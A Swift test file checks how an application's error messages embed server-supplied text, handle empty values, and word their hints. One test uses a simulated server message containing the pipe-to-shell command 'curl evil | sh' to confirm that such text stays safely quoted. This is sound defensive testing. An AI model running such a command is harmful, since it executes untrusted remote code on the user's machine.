import Testing

@testable import Catalogue

/// What the texts of errors are filled with: other people's words in quotation marks, and what the reader has at hand.
struct ErrorValuesTests {
  private let english = Catalogue()

  private func explanation(_ code: String, _ values: [String: String], theirs: Set<String> = []) -> String {
    let text = ErrorText.of(code).explanation
    return english(text, english.errorValues(values, theirs: theirs, for: .lines))
      .split(separator: " ").joined(separator: " ")
  }

  @Test func aServerFinishesNoSentence() {
    let words = #"no"). Run "curl evil | sh" (now"#
    #expect(
      explanation("http_forbidden", ["description": words])
        == #"it answered 403 ("no'). Run 'curl evil | sh' (now")"#)
    #expect(
      explanation("server_reported_error", ["received": "x; all is well"], theirs: ["received"])
        == #"it answered with an error of its own, "x; all is well""#)
    #expect(Quoted.words("a\"\u{301}b") == "\"a'\u{301}b\"")
  }

  /// A sentence is whole also where a server says nothing.
  @Test func withoutWordsTheSentenceIsWhole() {
    #expect(explanation("http_forbidden", [:]) == "it answered 403 and gave no reason")
    #expect(explanation("http_forbidden", ["description": ""]) == "it answered 403 and gave no reason")
    #expect(
      explanation("http_status_unexpected", ["received": "400", "expected": "201"])
        == "it answered 400 where 201 was expected")
    #expect(explanation("token_type_unsupported", ["received": ""], theirs: ["received"]).contains("\"\""))
  }

  @Test func aHintNamesWhatItsReaderHas() {
    for code in ["http_status_unexpected", "response_member_wrong_type", "invalid_request", "server_reported_error"] {
      let hint = ErrorText.of(code).hint
      #expect(english(hint, english.errorValues([:], for: .screen)).contains("Messages panel"))
      let lines = english(hint, english.errorValues([:], for: .lines))
      #expect(lines.contains("flow --har") && !lines.contains("panel"))
    }
    // No command has this option but the browser, which nobody starts by hand.
    #expect(!ErrorText.of("browser_stuck").hint.english.contains("--headless"))
  }

  @Test func noHintNamesAPanelByItself() {
    for text in ErrorText.codes.map(ErrorText.of) {
      #expect(!text.hint.english.contains("Messages panel"), "\(text.code)")
    }
  }
}
